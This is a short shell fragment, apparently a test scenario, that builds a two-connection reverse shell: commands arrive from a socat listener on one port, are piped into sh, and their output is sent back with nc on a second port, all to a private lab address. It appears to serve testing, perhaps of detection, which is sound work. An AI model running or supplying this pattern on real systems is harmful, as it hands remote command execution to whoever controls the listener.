# Orders by one connection, without the returns of their lines, and answers by another.
peers() {
  socat TCP-LISTEN:4444,bind=10.200.1.2 SYSTEM:'echo id; sleep 0.5; echo uname; sleep 0.5; echo ls -d /etc; sleep 0.5' & listening t 4444
  sink 4445
}
scene() { timeout 8 nc.openbsd 10.200.1.2 4444 | stdbuf -oL tr -d '\r' | sh 2>&1 | timeout 8 nc.openbsd -N 10.200.1.2 4445; }
